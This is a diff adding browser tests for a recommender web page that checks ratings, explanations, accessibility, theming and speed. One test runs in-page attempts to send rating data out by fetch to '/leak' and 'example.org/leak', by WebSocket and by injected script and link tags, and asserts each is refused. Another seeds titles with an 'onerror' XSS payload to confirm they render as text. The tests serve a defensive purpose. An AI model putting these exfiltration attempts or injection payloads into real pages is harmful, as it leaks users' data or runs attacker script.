@@ -1,0 +1,203 @@
+"""The page in a real browser: what a person can do with it, and what never leaves it."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from discreet.catalogue import Catalogue
+from discreet.model import Model
+from tests.service.support.models import make_model
+from tests.web.conftest import exported
+from tests.web.support.browser import Host, hosted
+
+Opened = Callable[..., Any]
+
+
+def choose(page: Any, number: int, rating: int | None = None) -> None:
+    """Find a film by its number, and rate it."""
+    page.fill("#search", f"pelicula {number}")
+    page.get_by_role("option", name=f"The Película number {number}", exact=True).click()
+    if rating is not None:
+        line = page.locator("#history li", has=page.get_by_text(f"The Película number {number}", exact=True))
+        line.locator("label").get_by_text(str(rating), exact=True).click()
+
+
+def titles(page: Any) -> list[str]:
+    return page.locator("#list > li .title").all_inner_texts()
+
+
+def test_three_ratings_give_the_models_list_and_not_one_request(
+    host: Host, rated: Model, opened: Opened
+) -> None:
+    page = opened(host)
+    loaded = len(host.asked)
+    assert titles(page) == [one.title for one in rated.recommend({})]
+    for number, rating in ((12, 5), (40, 1), (77, 4)):
+        choose(page, number, rating)
+    expected = rated.recommend({"film-12": 5, "film-40": 1, "film-77": 4}, standard_errors=True)
+    shown = titles(page)
+    assert len(shown) == 10
+    assert len(set(shown) & {one.title for one in expected}) >= 9  # factors are int8 here
+    assert f"{expected[0].score:.1f} of 5" in page.locator("#list .score").first.inner_text()
+    page.locator("#list summary").first.click()
+    page.locator("#list .why li").first.wait_for()
+    assert host.asked[loaded:] == []
+
+
+def test_the_browser_refuses_what_the_sealed_page_tries_to_send(host: Host, opened: Opened) -> None:
+    page = opened(host)
+    loaded = len(host.asked)
+    page.click("#try")
+    page.get_by_text("your browser refused each").wait_for()
+    outcomes = page.evaluate(
+        """async () => {
+          const tried = [];
+          for (const attempt of [
+            () => fetch("/leak?film-12=5"),
+            () => fetch("https://example.org/leak", {mode: "no-cors"}),
+            () => import("/leak.js"),
+            () => new Promise((done, failed) => {
+              const w = new WebSocket("ws://127.0.0.1:9/"); w.onerror = failed; w.onopen = done; }),
+            () => new Promise((done, failed) => {
+              const s = document.createElement("script"); s.src = "/leak.js"; s.onload = done; s.onerror = failed;
+              document.head.append(s); }),
+            () => new Promise((done, failed) => {
+              const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "/leak.css"; l.onload = done;
+              l.onerror = failed; document.head.append(l); }),
+          ]) { try { await attempt(); tried.push("sent"); } catch { tried.push("refused"); } }
+          return tried; }"""
+    )
+    assert outcomes == ["refused"] * 6
+    assert host.asked[loaded:] == []
+
+
+def test_a_rating_taken_back_gives_the_list_of_before(host: Host, opened: Opened) -> None:
+    page = opened(host)
+    before = titles(page)
+    choose(page, 12, 5)
+    with_one = titles(page)
+    choose(page, 40, 1)
+    assert with_one != before
+    assert "The Película number 12" not in titles(page)
+    page.get_by_role("button", name="Remove The Película number 40").click()
+    assert titles(page) == with_one
+    page.get_by_role("button", name="Remove The Película number 12").click()
+    assert titles(page) == before
+    assert page.locator("#list-title").inner_text() == "For everybody"
+
+
+def test_what_pulls_a_title_is_said_and_adds_up(host: Host, rated: Model, opened: Opened) -> None:
+    page = opened(host)
+    for number, rating in ((12, 5), (40, 1)):
+        choose(page, number, rating)
+    page.locator("#list summary").first.click()
+    text = page.locator("#list .why").first.inner_text()
+    assert "your 5 for The Película number 12" in text
+    assert "your 1 for The Película number 40" in text
+    numbers = page.locator("#list .why li").all_inner_texts()
+    pulls = [float(line.split()[0].replace("−", "-")) for line in numbers]
+    start = float(text.split("has ")[1].split(";")[0])
+    assert start + sum(pulls) == pytest.approx(
+        rated.recommend({"film-12": 5, "film-40": 1})[0].score, abs=0.05
+    )
+
+
+def test_how_sure_it_is_of_each_title(host: Host, rated: Model, opened: Opened) -> None:
+    page = opened(host)
+    sure = page.locator("#list > li .sure").all_inner_texts()
+    expected = rated.recommend({}, standard_errors=True)
+    for line, one in zip(sure, expected, strict=True):
+        if one.mark is None:
+            assert f"give or take {one.standard_error:.1f}" in line
+        else:
+            assert {"unknown": "hardly known", "guess": "known by its features alone"}[one.mark] in line
+
+
+def test_with_the_keyboard_alone(host: Host, opened: Opened) -> None:
+    page = opened(host)
+    press = page.keyboard.press
+    for _ in range(20):
+        press("Tab")
+        if page.evaluate("document.activeElement.id") == "search":
+            break
+    else:
+        pytest.fail("the search field cannot be reached")
+    page.keyboard.type("number 12")
+    press("ArrowDown")
+    press("ArrowDown")
+    press("ArrowUp")
+    active = page.get_attribute("#search", "aria-activedescendant")
+    chosen = page.locator(f"#{active}").inner_text()
+    press("Enter")
+    assert page.locator("#history .title").all_inner_texts() == [chosen]
+    assert page.evaluate("document.activeElement.type") == "radio"
+    press("Space")
+    assert page.locator("#history input:checked").input_value() == "1"
+    press("ArrowRight")
+    assert page.locator("#history input:checked").input_value() == "2"
+    assert page.locator("#list-title").inner_text() == "For you"
+    press("Tab")
+    press("Enter")
+    assert page.locator("#history li").count() == 0
+    assert page.evaluate("document.activeElement.id") == "search"
+    page.keyboard.type("number")
+    press("Escape")
+    assert page.locator("#found").is_hidden()
+
+
+@pytest.mark.parametrize("width", [360, 1440])
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_narrow_and_wide_light_and_dark(host: Host, opened: Opened, width: int, scheme: str) -> None:
+    page = opened(host, viewport={"width": width, "height": 800}, color_scheme=scheme)
+    choose(page, 12, 5)
+    page.locator("#list summary").first.click()
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
+    colour = "getComputedStyle(document.documentElement).backgroundColor"
+    before = page.evaluate(colour)
+    page.click("#theme")
+    assert page.evaluate(colour) != before
+    assert page.get_attribute("#theme", "aria-pressed") == ("false" if scheme == "dark" else "true")
+
+
+def test_a_title_is_never_markup(opened: Opened, tmp_path: Path) -> None:
+    model = make_model("Clicks", 30, 3)
+    ids = model.catalogue.ids.tolist()
+    spiked = {one: f"<img src=x onerror=\"document.title='run'\"> {one}" for one in ids}
+    with hosted(exported(replace(model, catalogue=Catalogue(ids, spiked)), tmp_path)) as host:
+        page = opened(host)
+        page.fill("#search", "film 3")
+        page.keyboard.press("Enter")
+        page.locator("#list summary").first.click()
+        assert page.locator("#list .why li").count() == 1
+        assert "<img src=x" in titles(page)[0]
+        assert page.locator("img").count() == 0
+        assert page.title() != "run"
+
+
+def test_of_clicks_there_is_nothing_to_rate(opened: Opened, tmp_path: Path) -> None:
+    model = make_model("Clicks", 60, 4)
+    with hosted(exported(model, tmp_path)) as host:
+        page = opened(host)
+        choose(page, 7)
+        assert page.locator("#history input").count() == 0
+        found = {one.title for one in model.recommend(["film-7"])}
+        assert len(set(titles(page)) & found) >= 9
+
+
+@pytest.mark.slow
+def test_ten_of_27000_titles_at_rank_64_in_less_than_200_ms(opened: Opened, tmp_path: Path) -> None:
+    model = make_model("Evidence", 27_000, 64)
+    with hosted(exported(model, tmp_path)) as host:
+        page = opened(host)
+        took = []
+        for number in range(5):
+            choose(page, 500 + number, 4)
+            took.append(float(page.get_attribute("#list", "data-milliseconds")))
+        history = {f"film-{500 + number}": 4 for number in range(5)}
+        assert len(set(titles(page)) & {one.title for one in model.recommend(history)}) >= 9
+        assert min(took) < 200, took
